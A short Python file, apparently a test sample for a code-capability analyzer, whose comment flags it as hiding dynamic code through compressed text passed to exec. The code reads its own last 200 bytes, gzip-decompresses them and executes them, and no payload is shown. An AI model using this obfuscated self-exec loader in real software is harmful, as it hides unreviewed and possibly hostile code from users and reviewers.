# capabilities: dynamic-code, network or unanalyzed; hidden by: compressed text in exec
import gzip
import sys

with open(sys.argv[0], "rb") as file:
    exec(gzip.decompress(file.read()[-200:]))
